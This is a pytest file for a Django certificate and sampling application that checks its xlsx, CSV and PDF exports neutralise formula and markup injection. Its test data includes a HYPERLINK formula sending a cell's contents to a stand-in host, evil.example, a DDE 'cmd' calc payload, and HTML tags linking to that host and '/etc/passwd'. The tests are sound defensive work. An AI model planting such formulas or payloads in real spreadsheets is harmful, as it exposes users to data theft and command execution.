"""Exports and PDFs treat user text as text: no spreadsheet formula in any .xlsx or CSV, no ReportLab markup in any
PDF (a "<" is not a 500, a link or an image tag is printed as it was typed)."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from nongan.core.excel import error_report, export, safe_cell, safe_row, unneutralise, write_csv

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
MARKUP = '<a href="http://evil.example">链接</a> <img src="/etc/passwd"/> a<b & c'


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("青口镇=1", "青口镇=1"),
        ("-12.5", "-12.5"),
        ("+86", "+86"),
        ("1e-3", "1e-3"),
        ("", ""),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
        (dt.date(2026, 1, 2), dt.date(2026, 1, 2)),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_numbers_stay_numbers_and_round_trip():
    from decimal import Decimal

    assert safe_row([Decimal("1.50"), 3, "=x"]) == [1.5, 3, "'=x"]
    assert unneutralise(safe_cell(EVIL)) == EVIL
    assert unneutralise("'plain") == "'plain"


def _cells(xlsx: bytes) -> list:
    wb = load_workbook(io.BytesIO(xlsx))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_xlsx_writers_write_no_formula():
    data = export([("a", "A"), ("b", "=B")], [[EVIL, 7], ["-1", -1.5]], "t")
    cells = _cells(data)
    assert not [c for c in cells if c.data_type == "f"]
    assert [c.value for c in cells] == ["A", "'=B", "'" + EVIL, 7, "-1", -1.5]
    report = error_report([{"row": 2, "column": "=C", "message": EVIL}])
    assert not [c for c in _cells(report) if c.data_type == "f"]
    assert "'" + EVIL in [c.value for c in _cells(report)]


def test_csv_writer_neutralises():
    buf = io.StringIO()
    write_csv(buf, ["=h", "n"], [[EVIL, 3], ["@x", "-4"]])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [["'=h", "n"], ["'" + EVIL, "3"], ["'@x", "-4"]]


def test_producer_export_has_no_live_formula(client, users, make_producer):
    make_producer(name="青口镇公式合作社", address=EVIL, legal_rep="+王五")
    client.force_login(users.admin)
    r = client.get("/registry/producers/export.xlsx")
    assert r.status_code == 200
    cells = _cells(r.content)
    assert not [c for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert "'" + EVIL in values and "'+王五" in values


@pytest.fixture
def evil_batch(users, ganyu, shipped_standards, make_producer):
    from nongan.certificates import services

    return services.batch_create(
        actor=None,
        producer=make_producer(name=EVIL),
        product=ganyu.category("黄瓜"),
        started=timezone.localdate() - dt.timedelta(days=30),
        plot=EVIL,
        unit="kg",
    )


def test_trace_exports_have_no_live_formula(client, users, evil_batch):
    from nongan.certificates import services

    [c] = services.certificate_issue(actor=None, batch=evil_batch, quantity="500", unit="kg", count=1)
    client.force_login(users.admin)
    r = client.get("/certificates/trace.xlsx", {"number": c.number})
    cells = _cells(r.content)
    assert not [x for x in cells if x.data_type == "f"]
    assert "'" + EVIL in [x.value for x in cells]
    r = client.get("/certificates/trace.csv", {"number": c.number})
    values = [v for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for v in row]
    assert "'" + EVIL in values
    assert not [v for v in values if v.startswith(("=", "+", "@", "\t", "\r"))]


def test_sample_pdf_prints_markup_as_text(client, users, ganyu):
    from nongan.monitoring import services

    s = services.sample_register(
        actor=users.sampler,
        producer=users.own_producer,
        product=ganyu.category("黄瓜"),
        quantity="2.5",
        quantity_unit="kg",
        place=MARKUP,
        lot="L<1>&2",
        sampled_at=timezone.now() - dt.timedelta(hours=2),
        seal_number="F0001",
        party_name="<b>王</b>",
    )
    client.force_login(users.sampler)
    r = client.get(reverse("monitoring:sample_print", kwargs={"code": s.code}))
    assert r.status_code == 200
    reader = PdfReader(io.BytesIO(r.content))
    text = "".join(reader.pages[0].extract_text().split())
    for literal in ("链接</a>", "<imgsrc=", "a<b&c", "L<1>&2", "<b>王</b>"):
        assert literal in text
    page = reader.pages[0]
    assert "/Annots" not in page  # no link was made
    assert not page["/Resources"].get("/XObject")  # no image was embedded


def test_certificate_label_prints_markup_as_text(users, evil_batch):
    from nongan.certificates import labels, services

    [c] = services.certificate_issue(
        actor=None,
        batch=evil_batch,
        quantity="5",
        unit="kg",
        count=1,
        promiser="<b>李</b> & 子\x07",
    )
    text = "".join(PdfReader(io.BytesIO(labels.labels_pdf([c], "100x70"))).pages[0].extract_text().split())
    assert "<b>李</b>&子" in text


def test_judge_command_csv_neutralises(tmp_path, shipped_standards):
    from django.core.management import call_command

    src = tmp_path / "in.csv"
    src.write_text("food,analyte,value,unit,=note\n=1+2,腐霉利,0.8,mg/kg,@x\n", encoding="utf-8")
    call_command("judge", csv=src, stdout=io.StringIO())
    with open(tmp_path / "in.judged.csv", encoding="utf-8-sig") as f:
        rows = list(csv.reader(f))
    assert rows[0][:5] == ["food", "analyte", "value", "unit", "'=note"]
    assert rows[1][:5] == ["'=1+2", "腐霉利", "0.8", "mg/kg", "'@x"]
